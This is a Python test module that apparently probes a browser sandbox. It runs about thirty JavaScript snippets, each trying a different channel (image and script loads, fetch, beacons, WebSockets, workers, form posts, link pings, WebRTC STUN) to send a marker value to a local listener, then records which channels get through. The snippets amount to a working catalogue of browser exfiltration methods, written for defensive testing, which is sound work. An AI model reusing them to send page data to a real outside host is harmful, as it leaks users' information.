"""Attempts of a page: scripts of a cell run in the researcher's browser, which is on a network.

What they can carry out is what was shown, and counted, before; still nobody else is to receive it.
"""

from __future__ import annotations

from dataclasses import dataclass

from playwright.sync_api import Page

from demo import hub_client
from tests.probes.sink import Sink


@dataclass(frozen=True)
class Scripted:
    """One attempt.

    Parameters
    ----------
    name, tried : str
    script : str
        Run in the lab's page; `there` is an address somebody listens at, `word` what was shown. Returns when the
        browser has tried.
    expected : str
        'nothing', or 'open' for what no page can be kept from (docs/threat-model.md).
    """

    name: str
    tried: str
    script: str
    expected: str = "nothing"


_STUN = b"\x21\x12\xa4\x42"
"""What every question to a STUN relay holds (RFC 8489)."""
_DONE = "new Promise(done => {{ const e = {make}; e.onload = e.onerror = done; {then}; setTimeout(done, 1500); }})"


def _element(name: str, tag: str, attribute: str, tried: str, more: str = "") -> Scripted:
    then = f"e.{attribute} = there + '/{name.replace(' ', '-')}?' + word; {more} document.body.append(e)"
    return Scripted(name, tried, _DONE.format(make=f"document.createElement('{tag}')", then=then))


def _settled(name: str, tried: str, code: str, expected: str = "nothing") -> Scripted:
    return Scripted(name, tried, f"Promise.race([(async () => {{ {code} }})().catch(() => 0), "
                                 "new Promise(done => setTimeout(done, 1500))])", expected)  # fmt: skip


BROWSER = (
    _element("picture", "img", "src", "load one from elsewhere"),
    _element("picture set", "img", "srcset", "load one of several"),
    _element("script", "script", "src", "load one"),
    _element("style", "link", "href", "load one", "e.rel = 'stylesheet';"),
    _element("icon", "link", "href", "load one", "e.rel = 'icon';"),
    _element("manifest", "link", "href", "load one", "e.rel = 'manifest';"),
    _element("prefetch", "link", "href", "have a page fetched ahead", "e.rel = 'prefetch';"),
    _element("preload", "link", "href", "have a font fetched ahead", "e.rel = 'preload'; e.as = 'font';"),
    _element("module ahead", "link", "href", "have a module fetched ahead", "e.rel = 'modulepreload';"),
    _element("frame", "iframe", "src", "show another's page in ours"),
    _element("object", "object", "data", "embed one"),
    _element("embed", "embed", "src", "embed one otherwise"),
    _element("video", "video", "src", "play one", "e.preload = 'auto'; e.load();"),
    _element("sound", "audio", "src", "play one", "e.preload = 'auto'; e.load();"),
    _element("picture of a drawing", "img", "src", "load one by its drawing",
             "e.src = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
             "<image href='${there}/svg'/></svg>`;"),
    _settled("fetch", "send it by fetch", "await fetch(there + '/fetch', {method: 'POST', body: word})"),
    _settled("fetch without reading", "send it so that no answer is needed",
             "await fetch(there + '/no-cors', {method: 'POST', body: word, mode: 'no-cors', keepalive: true})"),
    _settled("request", "send it by XMLHttpRequest",
             "const r = new XMLHttpRequest(); r.open('POST', there + '/xhr'); r.send(word); "
             "await new Promise(d => r.onloadend = d)"),
    _settled("beacon", "send it when the page is left", "navigator.sendBeacon(there + '/beacon', word)"),
    _settled("websocket", "open a channel",
             "const s = new WebSocket(there.replace('http', 'ws')); await new Promise(d => s.onclose = d)"),
    _settled("events", "open a stream",
             "const s = new EventSource(there + '/events'); await new Promise(d => s.onerror = d); s.close()"),
    _settled("worker", "have a worker fetch it",
             "const b = URL.createObjectURL(new Blob([`fetch('${there}/worker').finally(() => postMessage(1))`])); "
             "const w = new Worker(b); await new Promise(d => w.onmessage = w.onerror = d)"),
    _settled("worker from elsewhere", "run another's worker", "new Worker(there + '/w.js')"),
    _settled("script in a worker", "have a worker import one",
             "const b = URL.createObjectURL(new Blob([`try {importScripts('${there}/i.js')} catch {}; "
             "postMessage(1)`])); const w = new Worker(b); await new Promise(d => w.onmessage = w.onerror = d)"),
    _settled("module", "import one", "await import(there + '/module.js')"),
    _settled("font", "load one", "await new FontFace('x', `url(${there}/font)`).load()"),
    _settled("style within", "import one from a style of ours",
             "const e = document.createElement('style'); e.textContent = `@import '${there}/css'; "
             "body {background: url(${there}/bg)}`; document.head.append(e); "
             "await new Promise(d => setTimeout(d, 800))"),
    _settled("form", "send a form into a frame",
             "const f = document.createElement('form'); f.action = there + '/form'; f.method = 'post'; "
             "const i = document.createElement('iframe'); i.name = 'x'; document.body.append(i, f); f.target = 'x'; "
             "f.submit(); await new Promise(d => setTimeout(d, 800))"),
    _settled("ping of a link", "have a click send it",
             "const a = document.createElement('a'); a.href = '#x'; a.ping = there + '/ping?' + word; "
             "document.body.append(a); a.click(); await new Promise(d => setTimeout(d, 800))"),
    _settled("new window", "open another's page in one", "window.open(there + '/window?' + word); "
             "await new Promise(d => setTimeout(d, 800))"),
    _settled("link into a new window", "click a link to it",
             "const a = document.createElement('a'); a.href = there + '/blank?' + word; a.target = '_blank'; "
             "document.body.append(a); a.click(); await new Promise(d => setTimeout(d, 800))"),
    _settled("service worker", "leave one that outlives the page",
             "await navigator.serviceWorker.register(URL.createObjectURL(new Blob(['1'])))"),
    _settled("connection ahead", "have a connection made ahead",
             "const e = document.createElement('link'); e.rel = 'preconnect'; e.href = there; "
             "document.head.append(e); await new Promise(d => setTimeout(d, 1200))"),
    # last, for it goes on asking
    _settled("calls between browsers", "ask a relay for a path",
             "const p = new RTCPeerConnection({iceServers: [{urls: there.replace('http://', 'stun:')}]}); "
             "p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); globalThis.asking = p",
             "open"),
)  # fmt: skip


def answer(page: Page, sink: Sink, attempt: Scripted) -> str:
    """Let the page try, and say whether anybody heard a word; a connection without one is the browser's own haste.

    What is known to be open is waited for: a busy browser is late, and has tried all the same.
    """
    there = f"http://127.0.0.1:{sink.port}"
    code = "([there, word]) => " + attempt.script
    page.evaluate(code, [there, sink.word])
    spoken = (sink.word.encode(), _STUN)

    def heard() -> bool:
        return any(word in part for part in sink.arrived() for word in spoken)

    if attempt.expected == "open":
        hub_client.until(heard)
        return "open"
    return "open" if heard() else "nothing"
